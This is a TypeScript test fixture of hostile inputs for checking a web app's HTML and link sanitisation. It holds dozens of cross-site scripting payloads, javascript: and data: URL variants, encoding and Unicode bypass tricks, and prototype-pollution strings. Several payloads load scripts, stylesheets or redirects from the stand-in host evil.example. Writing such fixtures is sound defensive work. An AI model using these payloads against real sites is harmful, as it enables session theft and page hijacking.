// What somebody who means harm would write wherever the app lets them write. Whatever of it runs calls `intrude`, and
// whatever becomes an element or an attribute carries `data-hostile`: see intrusions.ts.

const elements = [
  '<script data-hostile>intrude(1)</script>',
  '<ScRiPt data-hostile>intrude(2)</sCrIpT>',
  '<script data-hostile src="//evil.example/x.js"></script>',
  '"><script data-hostile>intrude(3)</script>',
  `'><script data-hostile>intrude(4)</script>`,
  '</title><script data-hostile>intrude(5)</script>',
  '</textarea><img data-hostile src=x onerror=intrude(6)>',
  '--><!-- <img data-hostile src=x onerror=intrude(7)> -->',
  '<![CDATA[<img data-hostile src=x onerror=intrude(8)>]]>',
  '<img data-hostile src=x onerror=intrude(9)>',
  '<img/data-hostile/src=x/onerror=intrude(10)//',
  '<img data-hostile src=`x` onerror=intrude`11`>',
  '<IMG data-hostile SRC=1 OnErRoR="&#105;ntrude(12)">',
  '<body data-hostile onload=intrude(13)>',
  '<input data-hostile autofocus onfocus=intrude(14)>',
  '<details data-hostile open ontoggle=intrude(15)>',
  '<video data-hostile><source onerror=intrude(16)>',
  '<audio data-hostile src=x onerror=intrude(17)>',
  '<marquee data-hostile onstart=intrude(18)>',
  '<b data-hostile style="position:fixed;inset:0">all yours</b>',
  '<style data-hostile>*{display:none}</style>',
  '<link data-hostile rel=stylesheet href=//evil.example>',
  '<base data-hostile href="//evil.example/">',
  '<meta data-hostile http-equiv=refresh content="0;url=//evil.example">',
  '<form data-hostile action=//evil.example><button>Go',
  '<button data-hostile form=x formaction=javascript:intrude(19)>',
  '<iframe data-hostile src="javascript:intrude(20)">',
  '<iframe data-hostile srcdoc="<script>parent.intrude(21)</script>">',
  '<object data-hostile data="javascript:intrude(22)">',
  '<embed data-hostile src="javascript:intrude(23)">',
  '<svg data-hostile onload=intrude(24)>',
  '<svg data-hostile><script>intrude(25)</script></svg>',
  '<svg data-hostile><a xlink:href="javascript:intrude(26)"><text>x',
  '<svg data-hostile><animate onbegin=intrude(27) attributeName=x>',
  '<svg data-hostile><use href="data:image/svg+xml,<svg id=x/>#x">',
  '<math data-hostile><mtext><img src=x onerror=intrude(28)>',
  '<template data-hostile><img src=x onerror=intrude(29)></template>',
  '<noscript><p title="</noscript><img data-hostile src=x onerror=intrude(30)>">',
  '<a data-hostile href="javascript:intrude(31)">look here</a>',
  '<x data-hostile id=intrude name=cookie tabindex=1 onfocus=intrude(32)>',
]

const links = [
  'javascript:intrude(33)',
  'JaVaScRiPt:intrude(34)',
  'java\tscript:intrude(35)',
  'java\nscript:intrude(36)',
  '\u0001javascript:intrude(37)',
  '\u001f javascript:intrude(38)',
  'javascript&colon;intrude(39)',
  '&#x6A;avascript:intrude(40)',
  'javascript://%0aintrude(41)',
  'javascript:https://example.org/%0aintrude(42)',
  'https:javascript:intrude(43)',
  'vbscript:intrude(44)',
  'data:text/html,<script>intrude(45)</script>',
  'data:text/html;base64,PHNjcmlwdD5pbnRydWRlKDQ2KTwvc2NyaXB0Pg==',
  'blob:https://example.org/intrude(47)',
  'file:///etc/passwd',
  '[look](javascript:intrude(48))',
  '![look](x" onerror="intrude(49))',
  '<javascript:intrude(50)>',
  'https://example.org/" onmouseover="intrude(51)" data-hostile="',
  `https://example.org/' onmouseover='intrude(52)' data-hostile='`,
  'https://javascript:intrude(53)@example.org/',
  'mailto:a@example.org?body=<img data-hostile src=x onerror=intrude(54)>',
  '//evil.example/%2f..',
  '/\\evil.example',
  '/conversations/../../javascript:intrude(55)',
]

const tricks = [
  '{{constructor.constructor("intrude(56)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay what it looks like
  '${intrude(57)} #{intrude(58)} <%= intrude(59) %>',
  '{name} {count} {text} $& $1 $` %s %d',
  '\u202egnp.exe\u202c <img data-hostile src=x onerror=intrude(60)>',
  '\u2067\u2066 https://example.org/\u202emoc.live\u202c',
  '＜img data-hostile src=x onerror=intrude(61)＞',
  '\u2028</script>\u2029<script data-hostile>intrude(62)</script>',
  '<\u200bscript data-hostile>intrude(63)</\u200bscript>',
  '<scr\u0001ipt data-hostile>intrude(64)</scr\u0001ipt>',
  '+ADw-script+AD4-intrude(65)+ADw-/script+AD4-',
  '%3Cimg%20data-hostile%20src=x%20onerror=intrude(66)%3E',
  '&lt;img data-hostile src=x onerror=intrude(67)&gt;',
  '\\u003cimg data-hostile src=x onerror=intrude(68)\\u003e',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"intruded":true}}',
  'Z̸̡͖̈́a̵̱͛l̶̘͗g̷̰̈́o̴̤͝ <img data-hostile src=x onerror=intrude(69)>',
]

const long = `${'<img data-hostile src=x onerror=intrude(70)> '.repeat(60)}end`

/** As the server keeps them: composed and trimmed. */
export const hostileTexts: readonly string[] = [...elements, ...links, ...tricks, long].map((text) =>
  text.normalize('NFC').trim(),
)

/** PostgreSQL does not keep it, and the server says so. */
export const withNul = '<scr\0ipt data-hostile>intrude(71)</scr\0ipt>'

/** Cut to what a field takes, counted as the server counts. */
export const fitted = (text: string, most: number): string => [...text].slice(0, most).join('').trim()
